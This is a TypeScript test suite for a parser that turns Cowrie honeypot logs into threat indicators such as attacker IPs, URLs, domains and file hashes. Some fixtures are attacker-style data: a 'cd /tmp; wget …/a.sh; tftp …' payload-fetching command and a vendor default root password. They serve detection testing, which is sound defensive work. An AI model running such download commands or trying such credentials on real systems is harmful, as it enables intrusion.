import assert from 'node:assert/strict';
import { test } from 'node:test';
import { actOf, detailsOf } from '../acts.test-support.ts';
import type { ReaderOptions, RecordResult } from '../reader.ts';
import { cowrie } from './cowrie.ts';

const ATTACKER = '198.51.100.23';
const HASH = 'b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c';

/** A line of the log. Each field may be changed, or left out with `undefined`. */
function line(event: string, fields: Readonly<Record<string, unknown>> = {}): string {
  return JSON.stringify({
    eventid: `cowrie.${event}`,
    src_ip: ATTACKER,
    session: '0b50a7dc9a31',
    sensor: 'dmz-1',
    timestamp: '2026-03-02T05:11:09.401882Z',
    message: '',
    ...fields,
  });
}

function connect(fields: Readonly<Record<string, unknown>> = {}): string {
  return line('session.connect', {
    src_port: 50214,
    dst_ip: '203.0.113.5',
    dst_port: 2222,
    protocol: 'ssh',
    ...fields,
  });
}

function read(lines: readonly string[], options: ReaderOptions = {}): RecordResult[] {
  const reader = cowrie.createReader(options);
  return lines
    .map((text, index) => reader.read({ text, number: index + 1 }))
    .filter((result) => result !== undefined);
}

/** `TYPE value` of each event of the last line with its evidence, `-` for none, or the reason of its refusal. */
function outcome(...lines: string[]): string | Record<string, Readonly<Record<string, string>>> {
  const result = read(lines).at(-1);
  if (result?.kind === 'refused') return result.reason;
  if (result?.kind !== 'events') return '-';
  return Object.fromEntries(
    result.events.map((event) => [`${event.indicatorType} ${event.value}`, actOf(event)]),
  );
}

const PEER = `IPV4 ${ATTACKER}`;

test('a session, from its connection to its commands', () => {
  const [first] = read([connect()]);
  assert.ok(first?.kind === 'events');
  const [event] = first.events;
  assert.equal(event?.sensorId, 'dmz-1');
  assert.equal(event.sensorType, 'NETWORK');
  assert.equal(event.protocol, 'SSH');
  assert.equal(event.observedAt, Date.UTC(2026, 2, 2, 5, 11, 9, 401));
  assert.deepEqual(actOf(event), { connection: 'established' });

  assert.deepEqual(outcome(line('login.failed', { username: 'root', password: 'x' })), {
    [PEER]: { 'login.result': 'failed', 'login.tries': '1' },
  });
  assert.deepEqual(outcome(line('login.success', { username: 'root', password: 'hunter2' })), {
    [PEER]: { 'login.result': 'success' },
  });
  assert.deepEqual(outcome(line('command.input', { input: 'uname -a' })), {
    [PEER]: { 'command.input': 'uname -a' },
  });
  assert.deepEqual(outcome(line('direct-tcpip.request', { dst_ip: 'mail.example.com', dst_port: 25 })), {
    [PEER]: { 'proxy.request': 'mail.example.com:25' },
  });
});

test('of credentials the user name is kept, and whether a vendor shipped them', () => {
  assert.deepEqual(outcome(line('login.success', { username: 'root', password: 'vizxv' })), {
    [PEER]: { 'login.result': 'success', 'login.default_credentials': 'true' },
  });
  const secret = 'correct horse battery staple';
  const results = read([
    line('login.failed', { username: 'ann', password: secret }),
    line('login.success', { username: 'ann', password: secret }),
  ]);
  assert.ok(!JSON.stringify(results, (_, value) => (typeof value === 'bigint' ? 0 : value)).includes(secret));
});

test('the tries of a peer are counted over its sessions', () => {
  const failed = (session: string, src_ip: string): string =>
    line('login.failed', { session, src_ip, username: 'a', password: 'b' });
  const tries = read([
    failed('1', '192.0.2.1'),
    failed('2', '192.0.2.1'),
    failed('3', '192.0.2.2'),
    failed('4', '192.0.2.1'),
  ]).map((result) => (result.kind === 'events' ? result.events[0]?.evidence['login.tries'] : undefined));
  assert.deepEqual(tries, ['1', '2', '1', '3']);
});

test('URLs in a command are indicators, and so are their hosts', () => {
  const input = 'cd /tmp; wget http://192.0.2.80/a.sh; curl example.com; tftp -g -r b 192.0.2.80';
  const download = (url: string): Record<string, string> => ({ 'command.download': url });
  assert.deepEqual(outcome(line('command.input', { input })), {
    [PEER]: { 'command.input': input },
    'URL http://192.0.2.80/a.sh': download('http://192.0.2.80/a.sh'),
    'IPV4 192.0.2.80': download('http://192.0.2.80/a.sh'),
    'URL http://example.com': download('http://example.com'),
    'DOMAIN example.com': download('http://example.com'),
    'URL tftp://192.0.2.80/b': download('tftp://192.0.2.80/b'),
  });
});

test('captured files', () => {
  const url = 'http://files.example.net/x86';
  const evidence = { 'file.download': url };
  assert.deepEqual(outcome(line('session.file_download', { url, shasum: HASH, outfile: `var/${HASH}` })), {
    [PEER]: evidence,
    [`URL ${url}`]: evidence,
    'DOMAIN files.example.net': evidence,
    [`FILE_HASH_SHA256 ${HASH}`]: evidence,
  });
  const failed = { 'file.download_failed': url };
  assert.deepEqual(outcome(line('session.file_download.failed', { url })), {
    [PEER]: failed,
    [`URL ${url}`]: failed,
    'DOMAIN files.example.net': failed,
  });
  const uploaded = {
    [PEER]: { 'file.upload': HASH },
    [`FILE_HASH_SHA256 ${HASH}`]: { 'file.upload': HASH },
  };
  assert.deepEqual(outcome(line('session.file_upload', { filename: 'x', shasum: HASH })), uploaded);
  assert.deepEqual(outcome(line('session.file_download', { shasum: HASH, destfile: '' })), uploaded);
  assert.deepEqual(outcome(line('session.file_download', { url: 'stdin', shasum: HASH })), uploaded);
});

test('what a redirection wrote, a terminal recording and an empty file are no malware', () => {
  assert.equal(outcome(line('session.file_download', { shasum: HASH, destfile: '/tmp/x' })), '-');
  assert.equal(
    outcome(line('session.file_download', { shasum: HASH, url: '/tmp/x', destfile: '/tmp/x' })),
    '-',
  );
  assert.equal(outcome(line('log.closed', { shasum: HASH, ttylog: `var/tty/${HASH}` })), '-');
  const empty = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
  assert.deepEqual(outcome(line('session.file_upload', { filename: 'x', shasum: empty })), {
    [PEER]: { 'file.upload': empty },
  });
});

test('events without an act have nothing to report', () => {
  for (const event of [
    'session.closed',
    'client.version',
    'client.size',
    'command.failed',
    'direct-tcpip.data',
  ]) {
    assert.equal(outcome(line(event, { input: 'x', dst_ip: '192.0.2.99' })), '-', event);
  }
  assert.equal(outcome(line('client.kex', { hassh: '06046964c022c6407d15a27b12a6a4fb' })), '-');
  assert.equal(outcome(line('command.input', { input: ' ' })), '-');
});

test('the protocol is that of the session where a line does not tell it', () => {
  const protocolOf = (...lines: string[]): unknown => {
    const result = read(lines).at(-1);
    return result?.kind === 'events' && result.events[0]?.protocol;
  };
  const input = line('command.input', { input: 'ls' });
  assert.equal(protocolOf(connect({ protocol: 'telnet' }), input), 'TELNET');
  assert.equal(protocolOf(input), 'UNSPECIFIED');
  assert.equal(protocolOf(line('command.input', { input: 'ls', protocol: 'ssh' })), 'SSH');
  assert.equal(protocolOf(line('direct-tcpip.request', { dst_ip: 'example.com' })), 'SSH');
});

test('an act belongs to the address that opened the session', () => {
  assert.deepEqual(outcome(connect(), line('command.input', { input: 'ls', src_ip: undefined })), {
    [PEER]: { 'command.input': 'ls' },
  });
});

test('the address of the sensor never becomes an event; where an attacker wanted to go is not that', () => {
  assert.equal(outcome(connect(), connect({ session: '2', src_ip: '203.0.113.5' })), 'SENSOR_ADDRESS');
  const results = read([
    line('direct-tcpip.request', { dst_ip: '192.0.2.7', dst_port: 80 }),
    connect({ session: '2', src_ip: '192.0.2.7' }),
  ]);
  assert.deepEqual(
    results.map((result) => result.kind),
    ['events', 'events'],
  );
});

test('a bad line is refused alone, with its number and its reason', () => {
  const results = read([
    '{"eventid": "cowrie.sess',
    '{"eventid": "other"}',
    connect({ timestamp: 'yesterday' }),
    line('login.failed', { src_ip: undefined, session: undefined }),
    line('login.failed', { src_ip: 'unknown', session: undefined }),
    '',
    connect(),
  ]);
  assert.deepEqual(
    results.map((result) => (result.kind === 'refused' ? result.reason : result.line)),
    ['INVALID_JSON', 'NOT_A_COWRIE_RECORD', 'INVALID_TIMESTAMP', 'MISSING_ADDRESS', 'INVALID_ADDRESS', 7],
  );
});

test('each observable of a line is an event of its own, the same on every reading', () => {
  const idsOf = (): string[] =>
    read([line('command.input', { input: 'wget http://192.0.2.80/a' })]).flatMap((result) =>
      result.kind === 'events' ? result.events.map(({ eventId }) => eventId) : [],
    );
  assert.equal(new Set(idsOf()).size, 3);
  assert.deepEqual(idsOf(), idsOf());
});

test('the sensor of lines that name none', () => {
  const sensorOf = (options: ReaderOptions): unknown => {
    const [result] = read([connect({ sensor: '' })], options);
    return result?.kind === 'events' && result.events[0]?.sensorId;
  };
  assert.equal(sensorOf({}), 'cowrie');
  assert.equal(sensorOf({ sensor: 'west' }), 'west');
});

test('details of the act, of the client once a session, and of what belongs together', () => {
  const hassh = '06046964c022c6407d15a27b12a6a4fb';
  const client = [
    line('client.version', { version: 'SSH-2.0-Go' }),
    line('client.kex', { hassh, hasshAlgorithms: 'x' }),
  ];
  const details = (...lines: string[]): unknown[] =>
    read(lines).flatMap((result) => (result.kind === 'events' ? result.events.map(detailsOf) : []));
  const told = { 'client.version': 'SSH-2.0-Go', 'client.hassh': hassh };
  assert.deepEqual(
    details(
      connect({ dst_port: 22 }),
      ...client,
      line('login.failed', { username: 'root', password: 'x' }),
      line('login.failed', { username: 'admin', password: 'x' }),
      line('session.closed'),
    ),
    [{ 'destination.port': '22' }, { 'login.user': 'root', ...told }, { 'login.user': 'admin' }],
  );
  // A scanner that only says hello.
  assert.deepEqual(details(connect({ dst_port: 22 }), ...client, line('session.closed')), [
    { 'destination.port': '22' },
    told,
  ]);
  const [, ...others] = details(
    line('session.file_download', { url: 'http://files.example.net/x', shasum: HASH, destfile: '/tmp/x' }),
  );
  const together = { 'peer.address': '198.51.100.23', 'session.id': '0b50a7dc9a31', 'file.name': '/tmp/x' };
  assert.deepEqual(others, [together, together, together]);
});
